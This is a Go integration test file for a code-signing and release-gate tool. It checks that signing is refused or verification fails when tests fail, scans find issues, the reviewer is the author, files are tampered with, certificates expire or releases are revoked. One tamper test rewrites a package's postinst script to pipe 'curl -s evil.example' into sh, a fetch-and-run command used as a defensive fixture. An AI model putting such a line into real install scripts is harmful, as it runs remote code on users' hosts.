package build_test

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"ringwall/internal/codesign"
	"ringwall/internal/gate"
	"ringwall/internal/pki"
)

// Who attests, under the fleet's CA for attesters.
const attest = "spiffe://example-fleet.internal/attest/"

// lab is one product on its way, in a directory of its own.
type lab struct {
	*testing.T
	dir      string
	ringwall string
	revision string
}

// binary is the command line, built once.
func binary(t *testing.T, dir string) string {
	t.Helper()
	out := filepath.Join(dir, "ringwall")
	c := exec.CommandContext(t.Context(), "go", "build", "-o", out, "ringwall/cmd/ringwall")
	c.Env = append(os.Environ(), "CGO_ENABLED=0")
	if b, err := c.CombinedOutput(); err != nil {
		t.Fatalf("build ringwall: %v\n%s", err, b)
	}
	return out
}

// newLab makes keys, policies and the source; edit changes it before the commit
// that message describes.
func newLab(t *testing.T, ringwall, message string, edit func(src string)) *lab {
	t.Helper()
	l := &lab{T: t, dir: t.TempDir(), ringwall: ringwall}
	l.must("key", "init", "keys", "--name", "Example Fleet")
	l.write("release.yaml", l.must("gate", "policy", "init", "--keys", "keys", "--product", "edged"))
	// what hosts run under: it enforces, and so CSV speaks of blocks
	l.write("base.yaml", strings.Replace(l.must("policy", "init", "--keys", "keys", "--name", "base", "--archive", "none"), "\nmode: audit", "\nmode: enforce", 1))
	if err := os.CopyFS(l.path("src"), os.DirFS("testdata/edged")); err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(l.path("src"))
	}
	for _, args := range [][]string{
		{"init", "-q"},
		{"add", "."},
		{"-c", "user.name=Bob", "-c", "user.email=bob@example.org", "commit", "-q", "-m", message},
	} {
		l.run("git", append([]string{"-C", "src"}, args...)...)
	}
	l.revision = strings.TrimSpace(l.run("git", "-C", "src", "rev-parse", "HEAD"))
	return l
}

const reviewed = "Answer at the edge\n\nReviewed-by: Ann Other <ann@example.org>"

func (l *lab) path(name string) string { return filepath.Join(l.dir, name) }

func (l *lab) write(name, text string) {
	l.Helper()
	if err := os.MkdirAll(filepath.Dir(l.path(name)), 0o755); err != nil {
		l.Fatal(err)
	}
	if err := os.WriteFile(l.path(name), []byte(text), 0o644); err != nil {
		l.Fatal(err)
	}
}

// run is a command that must succeed.
func (l *lab) run(name string, args ...string) string {
	l.Helper()
	c := exec.CommandContext(l.Context(), name, args...)
	c.Dir, c.Env = l.dir, append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-trimpath -buildvcs=false")
	out, err := c.Output()
	if err != nil {
		if e, ok := errors.AsType[*exec.ExitError](err); ok {
			out = append(out, e.Stderr...)
		}
		l.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// ask runs ringwall and returns its exit code and everything that it said.
func (l *lab) ask(args ...string) (int, string) {
	l.Helper()
	c := exec.CommandContext(l.Context(), l.ringwall, args...)
	c.Dir = l.dir
	out, err := c.CombinedOutput()
	var e *exec.ExitError
	if err != nil && !errors.As(err, &e) {
		l.Fatal(err)
	}
	return c.ProcessState.ExitCode(), string(out)
}

func (l *lab) must(args ...string) string {
	l.Helper()
	return l.run(l.ringwall, append([]string{"-q"}, args...)...)
}

// stopped wants a refusal with an exit code, and words that say why.
func (l *lab) stopped(code int, words []string, args ...string) {
	l.Helper()
	got, out := l.ask(args...)
	if got != code {
		l.Errorf("ringwall %s: exit code %d, want %d\n%s", strings.Join(args, " "), got, code, out)
	}
	for _, w := range words {
		if !strings.Contains(out, w) {
			l.Errorf("ringwall %s does not say %q:\n%s", strings.Join(args, " "), w, out)
		}
	}
}

// build compiles and packs the service, as a Debian package and as an image.
func (l *lab) build() {
	l.Helper()
	l.run("go", "build", "-C", "src", "-o", "../root/usr/sbin/edged", ".")
	l.pack("edged.deb")
	l.image()
}

func (l *lab) pack(deb string) {
	l.Helper()
	for from, to := range map[string]string{"control": "control", "postinst": "postinst"} {
		b, err := os.ReadFile(l.path("src/debian/" + from))
		if err != nil {
			l.Fatal(err)
		}
		l.write("root/DEBIAN/"+to, string(b))
	}
	if err := os.Chmod(l.path("root/DEBIAN/postinst"), 0o755); err != nil {
		l.Fatal(err)
	}
	l.run("dpkg-deb", "--root-owner-group", "-b", "root", deb)
}

// image writes an OCI image layout of one layer, as the specification has it
// (image-spec v1.1), without any tool.
func (l *lab) image() {
	l.Helper()
	var layer bytes.Buffer
	w := tar.NewWriter(&layer)
	program, err := os.ReadFile(l.path("root/usr/sbin/edged"))
	if err != nil {
		l.Fatal(err)
	}
	if err := w.WriteHeader(&tar.Header{Name: "usr/sbin/edged", Mode: 0o755, Size: int64(len(program)), Typeflag: tar.TypeReg}); err != nil {
		l.Fatal(err)
	}
	if _, err := w.Write(program); err != nil {
		l.Fatal(err)
	}
	if err := w.Close(); err != nil {
		l.Fatal(err)
	}
	type descriptor struct {
		MediaType string `json:"mediaType"`
		Digest    string `json:"digest"`
		Size      int    `json:"size"`
	}
	blob := func(mediaType string, data []byte) descriptor {
		sum := fmt.Sprintf("%x", sha256.Sum256(data))
		l.write("image/blobs/sha256/"+sum, string(data))
		return descriptor{mediaType, "sha256:" + sum, len(data)}
	}
	encode := func(v any) []byte {
		b, err := json.Marshal(v)
		if err != nil {
			l.Fatal(err)
		}
		return b
	}
	packed := blob("application/vnd.oci.image.layer.v1.tar", layer.Bytes())
	config := blob("application/vnd.oci.image.config.v1+json", encode(map[string]any{
		"architecture": "amd64", "os": "linux", "rootfs": map[string]any{"type": "layers", "diff_ids": []string{packed.Digest}},
	}))
	manifest := blob("application/vnd.oci.image.manifest.v1+json", encode(map[string]any{
		"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": []descriptor{packed},
	}))
	l.write("image/index.json", string(encode(map[string]any{"schemaVersion": 2, "manifests": []descriptor{manifest}})))
	l.write("image/oci-layout", `{"imageLayoutVersion": "1.0.0"}`)
}

// attest makes the evidence that the release policy wants, of what really
// happened: the service's own tests, the commit's reviewers, the linter's log.
func (l *lab) attest(artefact string) {
	l.Helper()
	c := exec.CommandContext(l.Context(), "go", "test", "-json", "./...")
	c.Dir = l.path("src")
	out, err := c.Output()
	var failed *exec.ExitError
	if err != nil && !errors.As(err, &failed) {
		l.Fatal(err)
	}
	l.write("go-test.json", string(out))
	ci := []string{"--keys", "keys", "--identity", attest + "ci", "--revision", l.revision}
	l.must(append([]string{"gate", "attest", "test", artefact, "--from", "go-test.json", "--gate", "unit"}, ci...)...)
	l.must(append([]string{"gate", "attest", "scan", artefact, "--from", "clean.sarif", "--gate", "sast"}, ci...)...)
	l.review()
}

func (l *lab) review() {
	l.Helper()
	l.must("gate", "attest", "review", "--source", "--repo", "src", "--revision", l.revision, "--keys", "keys", "--identity", attest+"forge", "--force")
}

// sign is what the pipeline calls last.
func signing(artefact string, more ...string) []string {
	return append([]string{
		"sign", artefact, "--keys", "keys", "--product", "edged", "--version", "4.7.0-1", "--epoch", "4",
		"--release-policy", "release.yaml", "--evidence", "evidence", "--state", "state", "--out", "releases",
	}, more...)
}

func TestBuild(t *testing.T) {
	for _, need := range []string{"git", "dpkg-deb"} {
		if _, err := exec.LookPath(need); err != nil {
			t.Skipf("SKIPPED: no %s here to make what is signed", need)
		}
	}
	ringwall := binary(t, t.TempDir())
	fresh := func(t *testing.T, message string, edit func(src string)) *lab {
		t.Helper()
		l := newLab(t, ringwall, message, edit)
		for _, f := range []string{"clean.sarif", "finding.sarif"} {
			b, err := os.ReadFile(filepath.Join("testdata", f))
			if err != nil {
				t.Fatal(err)
			}
			l.write(f, string(b))
		}
		l.build()
		l.attest("edged.deb")
		return l
	}
	good := fresh(t, reviewed, nil)
	// start returns a copy of what passed every gate and is not signed yet.
	start := func(t *testing.T) *lab {
		t.Helper()
		l := &lab{T: t, dir: t.TempDir(), ringwall: ringwall, revision: good.revision}
		good.run("cp", "-a", good.dir+"/.", l.dir)
		return l
	}
	replace := func(t *testing.T, file, old, with string) {
		t.Helper()
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		changed := strings.Replace(string(b), old, with, 1)
		if changed == string(b) {
			t.Fatalf("%s has no %q", file, old)
		}
		if err := os.WriteFile(file, []byte(changed), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	const record = "releases/edged_4.7.0-1_amd64.release.json"

	t.Run("good", func(t *testing.T) {
		l := start(t)
		l.must("gate", "check", "edged.deb", "--policy", "release.yaml", "--evidence", "evidence", "--epoch", "4")
		if out := l.must(signing("edged.deb")...); !strings.Contains(out, "signed edged 4.7.0-1, epoch 4") || !strings.Contains(out, "revision "+l.revision) {
			t.Errorf("it says:\n%s", out)
		}
		out := l.must("verify", record, "--trust", "base.yaml", "--content", "edged.deb")
		for _, want := range []string{"very artefact", "gate         unit", "gate         review", "gate         sast", attest + "forge"} {
			if !strings.Contains(out, want) {
				t.Errorf("verify does not say %q:\n%s", want, out)
			}
		}
		l.must("csv", "verify", "edged.deb", "--release", record, "--policy", "base.yaml", "--release-policy", "release.yaml", "--evidence", "evidence")
		// the image is another artefact: it needs evidence of its own
		l.stopped(4, []string{"HOLD", "no evidence from ci about this artefact"}, signing("image", "--force")...)
		l.attest("image")
		l.must(signing("image", "--force")...)
		l.must("verify", "releases/edged_4.7.0-1.release.json", "--trust", "base.yaml", "--content", "image")
	})

	t.Run("a test fails", func(t *testing.T) {
		l := fresh(t, reviewed, func(src string) { replace(t, filepath.Join(src, "health.go"), "200", "500") })
		l.stopped(1, []string{"FAIL  unit", "1 tests failed: example.org/edged.TestHealth", "make them pass"}, signing("edged.deb")...)
		l.nothingSigned()
	})

	t.Run("static analysis finds something", func(t *testing.T) {
		l := start(t)
		l.must("gate", "attest", "scan", "edged.deb", "--from", "finding.sarif", "--gate", "sast", "--keys", "keys", "--identity", attest+"ci", "--revision", l.revision)
		l.stopped(1, []string{"FAIL  sast", "golangci-lint found 1 of level error"}, signing("edged.deb")...)
		l.nothingSigned()
	})

	t.Run("the reviewer is the author", func(t *testing.T) {
		l := fresh(t, "Answer at the edge\n\nReviewed-by: Robert <bob@example.org>", nil)
		l.stopped(1, []string{"FAIL  review", "the reviewer is the author", "bob@example.org"}, signing("edged.deb")...)
		l.nothingSigned()
	})

	t.Run("postinst is changed after signing", func(t *testing.T) {
		l := start(t)
		l.must(signing("edged.deb")...)
		replace(t, l.path("src/debian/postinst"), "echo edged is installed", "curl -s evil.example | sh")
		l.pack("changed.deb")
		l.stopped(1, []string{"changed  DEBIAN/postinst"}, "verify", record, "--trust", "keys", "--content", "changed.deb")
		l.stopped(1, []string{"CSV011", "DEBIAN/postinst", "changed after signing"}, "csv", "verify", "changed.deb", "--release", record, "--policy", "base.yaml")
		// and the evidence does not stretch to it
		l.stopped(4, []string{"it is about another artefact"}, signing("changed.deb", "--force")...)
	})

	t.Run("a library that nobody signed", func(t *testing.T) {
		l := start(t)
		l.must(signing("edged.deb")...)
		lib, err := os.ReadFile(l.path("root/usr/sbin/edged"))
		if err != nil {
			t.Fatal(err)
		}
		l.write("root/usr/lib/edged/libextra.so", string(lib)+"extra")
		l.pack("extra.deb")
		l.stopped(1, []string{"added    usr/lib/edged/libextra.so"}, "verify", record, "--trust", "keys", "--content", "extra.deb")
		l.stopped(1, []string{"CSV011", "libextra.so"}, "csv", "verify", "extra.deb", "--release", record, "--policy", "base.yaml")
	})

	t.Run("an expired certificate", func(t *testing.T) {
		l := start(t)
		l.must(signing("edged.deb")...)
		l.expire(record)
		l.stopped(5, []string{"is valid from", "not trusted"}, "verify", "old.release.json", "--trust", "keys")
		l.stopped(1, []string{"CSV004"}, "csv", "verify", "edged.deb", "--release", "old.release.json", "--policy", "base.yaml")
		// of an attester, too: then there is no evidence
		l.stopped(4, []string{"HOLD  unit", "not counted: expired.evidence.json", "is valid from"},
			"gate", "check", "edged.deb", "--policy", "release.yaml", "--evidence", "old", "--epoch", "4")
	})

	t.Run("a revoked release", func(t *testing.T) {
		l := start(t)
		var signed struct {
			Releases []struct {
				Release string `json:"release"`
			} `json:"releases"`
		}
		if err := json.Unmarshal([]byte(l.must(append([]string{"--output", "json"}, signing("edged.deb")...)...)), &signed); err != nil {
			t.Fatal(err)
		}
		l.must("csv", "verify", "edged.deb", "--release", record, "--policy", "base.yaml")
		base, err := os.ReadFile(l.path("base.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		rule := "deny:\n  - {rule: recalled, release: [" + signed.Releases[0].Release + "], reason: leaks tokens}\n"
		l.write("revoked.yaml", string(base)+rule)
		l.must("policy", "check", "revoked.yaml")
		l.stopped(1, []string{"CSV003", "recalled"}, "csv", "verify", "edged.deb", "--release", record, "--policy", "revoked.yaml")
	})
}

// nothingSigned: where something was refused, nothing is left that looks signed.
func (l *lab) nothingSigned() {
	l.Helper()
	err := filepath.WalkDir(l.dir, func(p string, _ fs.DirEntry, err error) error {
		if strings.HasSuffix(p, ".release.json") || strings.HasSuffix(p, ".cat") {
			l.Errorf("%s was written", p)
		}
		return err
	})
	if err != nil {
		l.Fatal(err)
	}
}

// expire signs a release, and evidence, with certificates that ended yesterday,
// as a thief of old keys would: the timestamp authority says today's date.
func (l *lab) expire(record string) {
	l.Helper()
	a, err := pki.LoadAuthority(l.path("keys"), nil, time.Now)
	if err != nil {
		l.Fatal(err)
	}
	old := func(p pki.Purpose, identity string) *pki.Signer {
		s, err := a.NewSigner(pki.LeafRequest{Purpose: p, Identity: identity, Now: time.Now().Add(-pki.MaxLeafLifetime - 24*time.Hour)})
		if err != nil {
			l.Fatal(err)
		}
		return s
	}
	read := func(name string) []byte {
		b, err := os.ReadFile(l.path(name))
		if err != nil {
			l.Fatal(err)
		}
		return b
	}
	stem := strings.TrimSuffix(record, ".release.json")
	catalogue, names := read(stem+".cat"), read(stem+".names")
	b, err := codesign.SignRelease(old(pki.PurposeBuild, "spiffe://example-fleet.internal/build/main"),
		codesign.ReleaseInfo{Product: "edged", Version: "4.7.0-1", Epoch: 4}, catalogue, names)
	if err != nil {
		l.Fatal(err)
	}
	l.write("old.release.json", string(b))
	l.write("old.cat", string(catalogue))
	l.write("old.names", string(names))
	statement, err := gate.EncodeStatement(gate.Subject{SHA256: gate.Digest(sha256.Sum256(read("edged.deb"))), Revision: l.revision},
		gate.TypeTest, json.RawMessage(`{"result":"PASSED","passedTests":["TestAll"]}`))
	if err != nil {
		l.Fatal(err)
	}
	if b, err = gate.Sign(old(pki.PurposeAttest, attest+"ci"), statement); err != nil {
		l.Fatal(err)
	}
	l.write("old/expired.evidence.json", string(b))
}
